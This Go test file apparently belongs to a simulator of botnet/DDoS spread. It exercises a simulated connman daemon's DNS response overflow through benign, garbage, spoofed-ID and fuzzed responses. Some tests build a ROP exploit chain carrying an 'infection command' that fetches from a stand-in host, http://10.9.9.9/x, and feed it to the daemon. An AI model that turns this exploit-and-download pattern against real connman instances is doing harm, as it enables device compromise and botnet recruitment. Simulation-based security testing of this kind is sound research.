package connman

import (
	"encoding/binary"
	"net/netip"
	"testing"

	imagecat "ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/dnsmsg"
	"ddosim/internal/exploit"
	"ddosim/internal/netsim"
	"ddosim/internal/procvm"
	"ddosim/internal/sim"
)

type rig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *container.Engine
}

func newRig(t testing.TB) *rig {
	t.Helper()
	sched := sim.NewScheduler(13)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &rig{sched: sched, star: star, engine: container.NewEngine(sched, star)}
}

func (r *rig) devContainer(t *testing.T, name string) *container.Container {
	t.Helper()
	img := &container.Image{
		Name: "ddosim/ct-" + name, Tag: "t", Arch: "x86_64",
		Files:     map[string][]byte{"/usr/sbin/connmand": container.BinaryContent(imagecat.BinConnman, "x86_64")},
		ExecPaths: map[string]bool{"/usr/sbin/connmand": true},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create(img.Ref(), name, container.LinkConfig{
		Rate: 300 * netsim.Kbps, Delay: sim.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	return c
}

func TestIdleWithoutResolvConf(t *testing.T) {
	r := newRig(t)
	c := r.devContainer(t, "dev")
	d := New(Config{QueryPeriod: sim.Second})
	c.Spawn(d)
	if err := r.sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if d.QueriesSent != 0 {
		t.Fatal("daemon queried without a configured nameserver")
	}
}

func TestQueriesConfiguredServerPeriodically(t *testing.T) {
	r := newRig(t)
	server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
	queries := 0
	if _, err := server.BindUDP(53, func(src netip.AddrPort, payload []byte, _ int) {
		if q, err := dnsmsg.Decode(payload); err == nil && !q.IsResponse() {
			queries++
		}
	}); err != nil {
		t.Fatal(err)
	}
	c := r.devContainer(t, "dev")
	c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
	d := New(Config{QueryPeriod: 5 * sim.Second})
	c.Spawn(d)
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if queries < 8 || queries > 14 {
		t.Fatalf("queries in 60s with 5s period = %d, want ~12", queries)
	}
}

func TestBenignResponseHarmless(t *testing.T) {
	r := newRig(t)
	server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
	var sock *netsim.UDPSocket
	var err error
	sock, err = server.BindUDP(53, func(src netip.AddrPort, payload []byte, _ int) {
		q, derr := dnsmsg.Decode(payload)
		if derr != nil {
			return
		}
		// A legitimate A record: 4 bytes, far inside the buffer.
		resp := dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, []byte{93, 184, 216, 34})
		sock.SendTo(src, resp.Encode())
	})
	if err != nil {
		t.Fatal(err)
	}
	c := r.devContainer(t, "dev")
	c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
	var outcomes []procvm.HijackOutcome
	d := New(Config{
		QueryPeriod: 3 * sim.Second,
		OnOutcome:   func(o procvm.HijackOutcome) { outcomes = append(outcomes, o) },
	})
	c.Spawn(d)
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if len(outcomes) == 0 {
		t.Fatal("no responses parsed")
	}
	for _, o := range outcomes {
		if o.Hijacked || o.Crashed() {
			t.Fatalf("benign response caused %+v", o)
		}
	}
	if d.Proc() == nil || !d.Proc().Alive() {
		t.Fatal("daemon died on benign traffic")
	}
	if d.ResponsesSeen == 0 {
		t.Fatal("no responses counted")
	}
}

func TestGarbageOverflowCrashesDaemon(t *testing.T) {
	// A response with an oversized RDATA of garbage (not a valid
	// chain): daemon must crash and exit, not execute.
	r := newRig(t)
	server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
	var sock *netsim.UDPSocket
	var err error
	garbage := make([]byte, 300)
	for i := range garbage {
		garbage[i] = 0x41
	}
	sock, err = server.BindUDP(53, func(src netip.AddrPort, payload []byte, _ int) {
		q, derr := dnsmsg.Decode(payload)
		if derr != nil {
			return
		}
		sock.SendTo(src, dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, garbage).Encode())
	})
	if err != nil {
		t.Fatal(err)
	}
	c := r.devContainer(t, "dev")
	c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
	var last procvm.HijackOutcome
	d := New(Config{
		QueryPeriod: 3 * sim.Second,
		OnOutcome:   func(o procvm.HijackOutcome) { last = o },
	})
	c.Spawn(d)
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !last.Crashed() {
		t.Fatalf("garbage overflow outcome = %+v", last)
	}
	if len(c.Procs()) != 0 {
		t.Fatal("crashed daemon still in process table")
	}
}

func TestResponseIDMismatchIgnored(t *testing.T) {
	// Off-path spoofing with the wrong transaction ID must be
	// ignored (the daemon matches IDs like a real resolver).
	r := newRig(t)
	server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
	chain, err := exploit.ForBinary(imagecat.BinConnman, "http://10.9.9.9/x")
	if err != nil {
		t.Fatal(err)
	}
	var sock *netsim.UDPSocket
	sock, err = server.BindUDP(53, func(src netip.AddrPort, payload []byte, _ int) {
		q, derr := dnsmsg.Decode(payload)
		if derr != nil {
			return
		}
		q.ID ^= 0xffff // wrong ID
		sock.SendTo(src, dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, chain).Encode())
	})
	if err != nil {
		t.Fatal(err)
	}
	c := r.devContainer(t, "dev")
	c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
	attempts := 0
	d := New(Config{
		QueryPeriod: 3 * sim.Second,
		OnOutcome:   func(procvm.HijackOutcome) { attempts++ },
	})
	c.Spawn(d)
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if attempts != 0 {
		t.Fatalf("mismatched-ID response parsed %d times", attempts)
	}
	if d.Proc() == nil || !d.Proc().Alive() {
		t.Fatal("daemon died")
	}
}

// FuzzConnmanResponse feeds arbitrary bytes to a fresh daemon's DNS
// response handler, with the pending query ID patched into the first
// two bytes so the input reaches the vulnerable copy. The first
// argument picks the Dev's W^X/ASLR/canary set. Hostile bytes may
// crash the simulated daemon; they must never panic the Go process.
func FuzzConnmanResponse(f *testing.F) {
	chain, err := exploit.BuildROPChain(imagecat.Connman(), imagecat.ConnmanBufSize,
		exploit.InfectionCommand("http://10.9.9.9/x"))
	if err != nil {
		f.Fatal(err)
	}
	q := dnsmsg.NewQuery(1, DefaultHostname, dnsmsg.TypeA)
	benign := dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, []byte{93, 184, 216, 34}).Encode()
	for prot := byte(0); prot < 8; prot++ {
		f.Add(prot, dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, chain).Encode())
	}
	f.Add(byte(0), benign)
	f.Add(byte(0), benign[:11]) // truncated header
	f.Add(byte(0), []byte{
		0, 1, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0, // response, 1 question, 1 answer
		1, 'a', 0, 0, 1, 0, 1, // a. A IN
		0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4, 10, 0, 0, 1, // answer named by a pointer to the question's name
	})
	f.Add(byte(0), append([]byte{0, 1, 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0, 64}, make([]byte, 64)...)) // 64-byte label
	f.Fuzz(func(t *testing.T, prot byte, data []byte) {
		r := newRig(t)
		server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
		c := r.devContainer(t, "dev")
		c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
		d := New(Config{
			Protections: procvm.Protections{WX: prot&1 != 0, ASLR: prot&2 != 0, Canary: prot&4 != 0},
			QueryPeriod: sim.Second,
		})
		c.Spawn(d)
		if err := r.sched.Run(sim.Second); err != nil {
			t.Fatal(err)
		}
		if d.QueriesSent == 0 {
			t.Fatal("daemon sent no query")
		}
		msg := append([]byte(nil), data...)
		if len(msg) >= 2 {
			binary.BigEndian.PutUint16(msg, d.pendingID)
		}
		d.onDatagram(netip.AddrPortFrom(server.Addr4(), 53), msg, len(msg))
		// Let a crash exit, or a hijack's shell run.
		if err := r.sched.Run(5 * sim.Second); err != nil {
			t.Fatal(err)
		}
	})
}

func TestFactoryAndName(t *testing.T) {
	b := New(Config{})
	if b.Name() != imagecat.BinConnman {
		t.Fatalf("name = %q", b.Name())
	}
}
